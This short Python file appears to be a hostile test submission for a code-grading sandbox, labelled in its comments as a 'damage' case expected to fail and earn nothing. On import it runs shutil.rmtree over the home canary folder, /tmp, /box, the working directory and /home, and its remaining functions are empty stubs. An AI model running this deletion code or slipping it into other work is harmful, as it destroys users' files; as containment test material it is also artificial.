# kind: damage
# tries: removes home, its own folder and all it can reach
# expect: failed error crashed
# earns: 0

import os
import shutil

for folder in (os.path.expanduser("~/canary"), "/tmp", "/box", os.getcwd(), "/home"):
    shutil.rmtree(folder, ignore_errors=True)


def median(values):
    return 0


def clean(names):
    return None


def each(values, function):
    return []


class Tally:
    def add(self, item):
        pass

    def count(self, item):
        return -1

    def __len__(self):
        return -1
